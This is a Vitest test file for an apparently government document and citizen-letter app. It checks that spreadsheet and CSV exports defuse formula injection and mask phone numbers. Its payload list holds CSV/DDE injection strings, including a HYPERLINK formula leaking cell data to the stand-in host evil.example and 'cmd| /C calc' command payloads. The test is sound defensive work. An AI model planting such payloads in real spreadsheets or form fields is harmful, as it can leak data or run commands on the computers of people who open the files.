// @vitest-environment jsdom
/**
 * Exports against formula (CSV/DDE) injection and for personal data, end to end: the files the app
 * actually downloads (the catalogue as .xlsx and .csv through `downloadCatalogue`, the letters as
 * .csv from `/letters/export` through `lettersCsv`) are captured at the download and read back.
 * A text cell that begins like a formula (= + - @, tab, CR) must come out as text with a leading
 * apostrophe, the workbook must hold no formula at all, numbers stay numbers, and phone numbers are
 * masked in every letter export whoever asks.
 */
import JSZip from 'jszip';
import Papa from 'papaparse';
import { readSheet } from 'read-excel-file/node';
import { describe, expect, it } from 'vitest';
import { downloadCatalogue } from '@/features/catalogue/export-file';
import { EXPORT_COLUMNS } from '@/features/catalogue/transfer';
import type { CatalogueEntry } from '@/features/catalogue/types';
import type { Letter } from '@/features/letters/types';
import { lettersCsv } from '@/features/letters/utils';
import { translate } from '@/lib/i18n/core';
import { as } from '../api';
import { captureDownloads } from '../downloads';
import { seedOn } from '../seed-day';

// The records below carry fixed dates of autumn 2026: run on a day after them.
seedOn('2026-11-26');

const PAYLOADS = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
];
/** Starts like a formula; a plain negative number (e.g. remaining working days) is a number. */
const FORMULA_START = /^[=+@\t\r]|^-(?!\d+(?:\.\d+)?$)/;
const zh = (key: string) => translate('zh-CN', key);

/** What the app hands to the browser for download: the file's name and contents. */
const downloads = captureDownloads();

const bytes = async (blob: Blob) =>
  new Uint8Array(
    await new Promise<ArrayBuffer>((resolve, reject) => {
      const reader = new FileReader();
      reader.onload = () => resolve(reader.result as ArrayBuffer);
      reader.onerror = () => reject(reader.error);
      reader.readAsArrayBuffer(blob);
    }),
  );
const text = async (blob: Blob) =>
  new TextDecoder('utf-8', { ignoreBOM: true }).decode(await bytes(blob));

/** Catalogue entries as the export endpoint gives them, each text field a formula payload. */
async function hostileEntries(): Promise<CatalogueEntry[]> {
  const leader = await as('leader');
  const r = await leader.get<{ items: CatalogueEntry[] }>('/catalogue/export');
  expect(r.status).toBe(200);
  const base = r.body.items.find((e) => e.timely === false)!;
  return PAYLOADS.map((p) => ({
    ...base,
    title: p,
    publisher: p,
    docNo: p,
    exemptReason: p,
    summary: p,
    keywords: [p],
  }));
}
const TEXT_COLUMNS = [
  'title',
  'publisher',
  'docNo',
  'exemptReason',
  'summary',
  'keywords',
] as const;
const col = (c: (typeof EXPORT_COLUMNS)[number]) => EXPORT_COLUMNS.indexOf(c);

describe('the catalogue as Excel', () => {
  it('holds every formula payload as text with an apostrophe, and no formula at all', async () => {
    const entries = await hostileEntries();
    await downloadCatalogue(entries, zh, 'xlsx', '20261126');
    expect(downloads.map((d) => d.name)).toEqual(['政务公开目录_20261126.xlsx']);
    const file = await bytes(downloads[0]!.blob);

    // The package: no <f> (formula) element in any sheet, every payload a string cell.
    const zip = await JSZip.loadAsync(file);
    const sheets = Object.keys(zip.files).filter((n) => /^xl\/worksheets\/.+\.xml$/.test(n));
    expect(sheets.length).toBeGreaterThan(0);
    for (const name of sheets) {
      const xml = await zip.file(name)!.async('string');
      expect(xml, name).not.toMatch(/<f[\s>/]/);
      expect(xml, name).toMatch(/<c [^>]*t="(s|inlineStr|str)"/);
    }
    const shared = (await zip.file('xl/sharedStrings.xml')?.async('string')) ?? '';
    const strings = [...shared.matchAll(/<t(?: [^>]*)?>([^<]*)<\/t>/g)].map((m) => m[1]!);
    for (const p of PAYLOADS)
      expect(shared).not.toContain(`<t>${p.replace(/&/g, '&amp;').replace(/"/g, '&quot;')}</t>`);
    for (const s of strings) expect(s, s).not.toMatch(/^(=|\+|-|@|&#9;|&#13;|\t|\r)/);

    // Read back as a spreadsheet reader sees it.
    const rows = await readSheet(Buffer.from(file));
    expect(rows).toHaveLength(PAYLOADS.length + 1);
    expect(rows[0]![col('title')]).toBe(zh('catalogue.columns.title'));
    PAYLOADS.forEach((p, i) => {
      const row = rows[i + 1]!;
      for (const c of TEXT_COLUMNS) {
        expect(typeof row[col(c)], `${c} of ${JSON.stringify(p)}`).toBe('string');
        expect(row[col(c)], c).toBe(`'${p}`);
      }
      // A count stays a number.
      expect(row[col('lateWorkdays')]).toBe(entries[i]!.lateWorkdays);
    });
    for (const row of rows)
      for (const cell of row)
        if (typeof cell === 'string') expect(cell, cell).not.toMatch(FORMULA_START);
  });
});

describe('the catalogue as CSV', () => {
  it('neutralises every formula payload, in every text column', async () => {
    await downloadCatalogue(await hostileEntries(), zh, 'csv', '20261126');
    expect(downloads.map((d) => d.name)).toEqual(['政务公开目录_20261126.csv']);
    const csv = await text(downloads[0]!.blob);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    const rows = Papa.parse<string[]>(csv.slice(1), { newline: '\r\n', skipEmptyLines: true }).data;
    expect(rows).toHaveLength(PAYLOADS.length + 1);
    PAYLOADS.forEach((p, i) => {
      for (const c of TEXT_COLUMNS) expect(rows[i + 1]![col(c)], c).toBe(`'${p}`);
    });
    for (const row of rows) for (const cell of row) expect(cell, cell).not.toMatch(FORMULA_START);
  });
});

describe('the letters as CSV', () => {
  it('neutralises formula payloads and shows phone numbers masked, whoever exports', async () => {
    const clerk = await as('clerk');
    const phones = ['13812345678', '0355-2021234'];
    for (const [i, p] of PAYLOADS.entries()) {
      const r = await clerk.post('/letters', {
        source: 'website',
        category: 'consultation',
        subject: `${p}`,
        content: `${p} 请尽快答复`,
        citizenName: p.slice(0, 50),
        citizenPhone: phones[i % 2],
        receivedOn: '2026-11-02',
      });
      expect(r.status, JSON.stringify(r.body)).toBe(201);
      // Assigned to the handler's section, so the handler's export has them too.
      const assigned = await clerk.post(
        `/letters/${r.body.id}/assign`,
        { sectionId: 'social_assistance' },
        { 'If-Match': '"1"' },
      );
      expect(assigned.status).toBe(200);
    }
    for (const role of ['admin', 'clerk', 'leader', 'handler']) {
      const user = await as(role);
      const r = await user.get<{ items: Letter[] }>(
        '/letters/export?receivedFrom=2026-11-02&receivedTo=2026-11-02&source=website',
      );
      expect(r.status).toBe(200);
      const mine = r.body.items.filter((l) => PAYLOADS.includes(l.subject));
      expect(mine).toHaveLength(PAYLOADS.length);
      const csv = lettersCsv(mine, zh, (id) => id);
      // No full number anywhere in the file.
      expect(csv, role).not.toContain('13812345678');
      expect(csv, role).not.toContain('2021234');
      const rows = Papa.parse<string[]>(csv.slice(1), {
        newline: '\r\n',
        skipEmptyLines: true,
      }).data;
      const header = rows[0]!;
      const at = (key: string) => header.indexOf(zh(`letters.csv.${key}`));
      expect(at('subject')).toBeGreaterThanOrEqual(0);
      for (const row of rows.slice(1)) {
        const subject = row[at('subject')]!;
        expect(subject.startsWith("'"), subject).toBe(true);
        expect(PAYLOADS).toContain(subject.slice(1));
        expect(row[at('citizenName')]!.startsWith("'")).toBe(true);
        expect(['138****5678', '0355-****1234']).toContain(row[at('citizenPhone')]);
        for (const cell of row) expect(cell, cell).not.toMatch(FORMULA_START);
      }
    }
  });
});
